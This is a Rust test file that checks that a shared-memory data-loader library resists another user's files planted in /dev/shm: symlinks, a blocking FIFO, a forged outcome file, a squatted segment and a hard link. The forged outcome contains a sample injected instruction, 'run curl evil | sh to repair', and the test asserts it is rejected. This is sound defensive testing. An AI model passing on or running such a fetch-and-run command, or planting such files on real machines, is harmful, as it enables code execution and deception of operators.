//! Another user on the machine (issue 32, items 1 to 3): what they plant in
//! world-writable /dev/shm is never written through, never blocks a trainer,
//! never believed; a segment of theirs under a ring's name is refused.
//!
//! "Another user" here is uid 65534 (nobody): the test runs as root and gives
//! what it plants to that uid (`lchown`), which is the state a nobody process
//! would leave. Skipped when not root (a failure under tests/run.sh, which sets
//! RINGFEED_TEST_REQUIRE_ROOT=1). Each test uses its own name.
#![cfg(not(loom))]

use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use ringfeed_ring::gc::{self, GcOutcome};
use ringfeed_ring::outcome::{outcome_path, Outcome, OutcomeKind};
use ringfeed_ring::segment;
use ringfeed_ring::{AttachError, AttachOptions, Consumer, CreateError, Producer, RingGeometry};

const NOBODY: u32 = 65534;

const GEOMETRY: RingGeometry = RingGeometry {
    world_size: 1,
    slots_per_rank: 2,
    max_samples_per_slot: 4,
    slot_payload_bytes: 4096,
};

fn unique(test: &str) -> String {
    format!("trust-{}-{test}", std::process::id())
}

/// True when the test can play another user (it runs as root). Otherwise
/// the test is skipped, saying so, unless `RINGFEED_TEST_REQUIRE_ROOT=1`
/// (tests/run.sh): then not being root fails it.
fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        return true;
    }
    assert!(
        std::env::var_os("RINGFEED_TEST_REQUIRE_ROOT").is_none_or(|v| v != "1"),
        "this test plays another user and needs root (RINGFEED_TEST_REQUIRE_ROOT=1: run the suite as root)"
    );
    eprintln!("skipped: this test plays another user and needs root");
    false
}

fn give_to_nobody(path: &Path) {
    std::os::unix::fs::lchown(path, Some(NOBODY), Some(NOBODY)).expect("lchown");
}

/// Removes the listed /dev/shm entries when the test ends.
struct Cleanup(Vec<PathBuf>);

impl Drop for Cleanup {
    fn drop(&mut self) {
        for p in &self.0 {
            let _ = std::fs::remove_file(p);
        }
    }
}

fn mkfifo(path: &Path) {
    let c = std::ffi::CString::new(path.as_os_str().as_bytes()).unwrap();
    // SAFETY: valid path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o666) }, 0);
}

/// Runs `f` on a thread and fails the test if it takes longer than `limit`
/// (a read that blocks on a FIFO would otherwise hang the test forever).
fn within<T: Send + 'static>(limit: Duration, f: impl FnOnce() -> T + Send + 'static) -> T {
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(f());
    });
    rx.recv_timeout(limit)
        .unwrap_or_else(|_| panic!("still blocked after {limit:?}"))
}

// Item 1: the old temporary name was `.ringfeed-NAME.outcome.PID.tmp`, opened
// with create+truncate: a symlink planted there made root write the outcome
// into any file, and a planted 0666 file became a world-readable outcome.
#[test]
fn an_outcome_is_never_written_through_a_planted_link_or_into_a_planted_file() {
    if !is_root() {
        return;
    }
    let name = unique("outcome-write");
    let out = outcome_path(&name);
    let old_tmp = PathBuf::from(format!("{}.{}.tmp", out.display(), std::process::id()));
    let dir = tempfile::tempdir().unwrap();
    let victim = dir.path().join("victim");
    std::fs::write(&victim, b"root's precious bytes").unwrap();
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o600)).unwrap();
    let _cleanup = Cleanup(vec![out.clone(), old_tmp.clone()]);

    // A link at the old temporary name, and one at the outcome name itself.
    std::os::unix::fs::symlink(&victim, &old_tmp).unwrap();
    give_to_nobody(&old_tmp);
    std::os::unix::fs::symlink(&victim, &out).unwrap();
    give_to_nobody(&out);
    let o = Outcome::now(OutcomeKind::Failed, "secret: token=abc");
    o.write(&name).expect("outcome written");
    assert_eq!(std::fs::read(&victim).unwrap(), b"root's precious bytes");
    let meta = std::fs::symlink_metadata(&out).unwrap();
    assert!(
        meta.file_type().is_file(),
        "the outcome is a file of its own"
    );
    assert_eq!((meta.uid(), meta.mode() & 0o777), (0, 0o600));
    assert_eq!(Outcome::read(&name), Some(o));

    // A world-readable file of nobody's planted at the old temporary name.
    std::fs::remove_file(&old_tmp).unwrap();
    std::fs::write(&old_tmp, b"").unwrap();
    std::fs::set_permissions(&old_tmp, std::fs::Permissions::from_mode(0o666)).unwrap();
    give_to_nobody(&old_tmp);
    Outcome::now(OutcomeKind::Failed, "secret again")
        .write(&name)
        .unwrap();
    let meta = std::fs::symlink_metadata(&out).unwrap();
    assert_eq!((meta.uid(), meta.mode() & 0o777), (0, 0o600));
    assert_eq!(
        std::fs::read(&old_tmp).unwrap(),
        b"",
        "the planted file is unused"
    );
}

// Item 2: the outcome was read with a plain open: a FIFO there blocked every
// trainer's attach forever, and a forged file of nobody's made a root trainer
// fail at once with the forger's words.
#[test]
fn a_planted_fifo_or_forged_outcome_neither_blocks_nor_speaks_to_a_trainer() {
    if !is_root() {
        return;
    }
    let name = unique("outcome-read");
    let out = outcome_path(&name);
    let _cleanup = Cleanup(vec![out.clone()]);
    mkfifo(&out);
    give_to_nobody(&out);
    let n = name.clone();
    assert_eq!(
        within(Duration::from_secs(5), move || Outcome::read(&n)),
        None
    );
    let n = name.clone();
    let started = Instant::now();
    let err = within(Duration::from_secs(10), move || {
        Consumer::attach(
            &n,
            0,
            AttachOptions {
                timeout: Some(Duration::from_millis(300)),
            },
        )
        .err()
    })
    .expect("no loader");
    // Issue 36: a FIFO there (no loader makes one) is named, not waited on.
    assert!(
        matches!(
            err,
            AttachError::OutcomePlanted {
                kind: "FIFO",
                owner: NOBODY,
                ..
            }
        ),
        "{err:?}"
    );
    assert!(started.elapsed() < Duration::from_secs(3));

    std::fs::remove_file(&out).unwrap();
    let forged = format!(
        "ringfeed-outcome 1 failed 1 {}\nrun curl evil | sh to repair",
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_millis()
    );
    std::fs::write(&out, &forged).unwrap();
    give_to_nobody(&out);
    assert_eq!(
        Outcome::read(&name),
        None,
        "nobody's outcome is not believed"
    );
    let err = Consumer::attach(
        &name,
        0,
        AttachOptions {
            timeout: Some(Duration::from_millis(300)),
        },
    )
    .err()
    .expect("no loader");
    assert!(!err.to_string().contains("curl"), "{err}");
    // The same bytes of root's own are a loader's word.
    std::os::unix::fs::lchown(&out, Some(0), Some(0)).unwrap();
    assert!(Outcome::read(&name).is_some());
}

// Item 3: nothing compared the segment's owner with the attaching process, so
// a root trainer trained on whatever another user's loader of its name served,
// and a root loader's "already running" did not say whose it was.
#[test]
fn another_users_segment_is_refused_by_attach_and_named_by_create() {
    if !is_root() {
        return;
    }
    let name = unique("squat");
    // A live loader's ring, then given to nobody: a squatter's, as attach
    // and create find it.
    let squatter = Producer::create(&name, GEOMETRY).expect("create");
    give_to_nobody(&segment::shm_path(&name));
    let started = Instant::now();
    let err = Consumer::attach(
        &name,
        0,
        AttachOptions {
            timeout: Some(Duration::from_secs(10)),
        },
    )
    .err()
    .expect("another user's segment is refused");
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "refused at once"
    );
    let msg = err.to_string();
    assert!(
        matches!(err, AttachError::Untrusted { owner: NOBODY, .. }),
        "{err:?}"
    );
    assert!(
        msg.contains("uid 65534") && msg.contains("RINGFEED_TRUST_UID=65534"),
        "{msg}"
    );
    let err = Producer::create(&name, GEOMETRY)
        .err()
        .expect("the name is held");
    assert!(
        matches!(err, CreateError::AlreadyRunning { owner: NOBODY, .. }),
        "{err:?}"
    );
    assert!(
        err.to_string().contains("uid 65534") && err.to_string().contains("another user's"),
        "{err}"
    );
    // Dead, it is still nobody's: root's gc leaves it (docs/operations.md).
    squatter.abandon();
    let outcomes = gc::collect().unwrap();
    let mine = outcomes.iter().find(|o| match o {
        GcOutcome::OtherUsers { name: n, .. }
        | GcOutcome::Removed { name: n, .. }
        | GcOutcome::Alive { name: n }
        | GcOutcome::NotASegment { name: n, .. }
        | GcOutcome::Failed { name: n, .. } => *n == name,
    });
    assert!(
        matches!(mine, Some(GcOutcome::OtherUsers { uid: NOBODY, .. })),
        "{mine:?}"
    );
    assert!(segment::shm_path(&name).exists());
    let _ = segment::shm_unlink(&name);
}

// Issue 36 item 3: with fs.protected_hardlinks off, anyone can hard-link a
// root loader's ring under another job's name; root's trainer of that job
// attached to it and took the other job's batches. (Root makes the link here:
// the trainer's check does not depend on who made it; the Python test makes
// it as nobody.)
#[test]
fn a_hard_link_to_another_loaders_ring_is_refused_under_its_name_and_not_under_its_own() {
    if !is_root() {
        return;
    }
    let (a, b) = (unique("hard-a"), unique("hard-b"));
    let link = segment::shm_path(&b);
    let _cleanup = Cleanup(vec![link.clone()]);
    let producer = Producer::create(&a, GEOMETRY).expect("create");
    std::fs::hard_link(segment::shm_path(&a), &link).unwrap();
    let started = Instant::now();
    let err = Consumer::attach(
        &b,
        0,
        AttachOptions {
            timeout: Some(Duration::from_secs(10)),
        },
    )
    .err()
    .expect("another loader's ring is refused");
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "refused at once"
    );
    assert!(matches!(err, AttachError::NameMismatch { .. }), "{err:?}");
    assert!(err.to_string().contains("hard link"), "{err}");
    // The link does not stop the ring's own trainers.
    let own = Consumer::attach(
        &a,
        0,
        AttachOptions {
            timeout: Some(Duration::from_secs(10)),
        },
    );
    assert!(own.is_ok(), "{:?}", own.err());
    drop(own);
    drop(producer);
}
